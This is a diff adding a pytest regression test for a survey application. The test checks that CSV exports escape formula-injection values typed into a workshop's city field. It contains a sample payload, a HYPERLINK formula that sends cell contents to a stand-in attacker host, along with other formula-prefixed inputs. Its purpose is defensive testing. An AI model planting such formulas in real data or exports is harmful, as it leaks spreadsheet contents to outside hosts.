@@ -258,6 +258,65 @@ def test_a_formula_city_stays_text_in_every_workbook(organiser, make_workshop):
     assert chart_sheet["B1"].value == FORMULA and chart_sheet["B1"].data_type == "s"
 
 
+LIVE_LINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cells(response, delimiter: str = ",") -> list[list[str]]:
+    assert response.status_code == 200, response.content[:300]
+    text = response.content.decode("utf-8-sig")
+    return list(csv_module.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+@pytest.mark.parametrize(
+    ("city", "typed"),
+    [
+        (LIVE_LINK, True),
+        ("+31 Zwolle", True),
+        ("-Zwolle", True),
+        ("@SUM(1+1)", True),
+        ("\t=1+1", False),  # stored by an import or an older version: the form refuses it
+        ("\r=1+1", False),
+    ],
+)
+def test_no_csv_cell_a_spreadsheet_opens_starts_a_formula_from_typed_text(
+    organiser, workshop, city, typed
+):
+    """A city typed as =HYPERLINK(…) on the edit form was a live formula in every row of
+    answers.csv and wide.csv. The spreadsheet CSVs escape it; the R/SPSS CSVs keep it exact,
+    as their codebook says."""
+    if typed:
+        response = organiser.post(
+            f"/s/{workshop.code}/edit/",
+            {"city": city, "title": "", "date": "2026-11-26", "tables": "3",
+             "participant_cap": "300"},
+        )  # fmt: skip
+        assert response.status_code == 302, response.content[:500]
+    else:
+        Workshop.objects.filter(pk=workshop.pk).update(city=city)
+    workshop.refresh_from_db()
+    assert workshop.city == city
+    participant = participant_join(workshop=workshop, table=None, role="")
+    for statement in Statement.objects.filter(element__instrument=workshop.instrument)[:3]:
+        Answer.objects.create(participant=participant, statement=statement, score=4)
+
+    for lang, delimiter in (("nl", ";"), ("en", ",")):
+        for name in ("answers", "wide"):
+            url = f"/s/{workshop.code}/excel/{name}.csv?lang={lang}"
+            header, *rows = csv_cells(organiser.get(url), delimiter)
+            cells = [c for row in [header, *rows] for c in row]
+            assert not [c for c in cells if c.startswith(FORMULA_START)], url
+            assert rows and all(row[header.index("city")] == "'" + city for row in rows), url
+    codebook = csv_cells(organiser.get(f"/s/{workshop.code}/codebook.csv"))
+    assert not [c for row in codebook for c in row if c.startswith(FORMULA_START)]
+    city_row = next(row for row in codebook if row[1] == "city")
+    assert "exactly as typed" in city_row[4] and "Excel CSV" in city_row[4]
+    # The R/SPSS files hold the text as it is: R and SPSS read no formulas.
+    for name in ("answers.csv", "wide.csv"):
+        header, *rows = csv_cells(organiser.get(f"/s/{workshop.code}/{name}"))
+        assert rows and all(row[header.index("city")] == city for row in rows), name
+
+
 # --- odd digits --------------------------------------------------------------------------------
 
 ODD = ["\u00b2", "\uff17", "\u0667", "+7", "1_0", "-1", "99999999999999999999"]
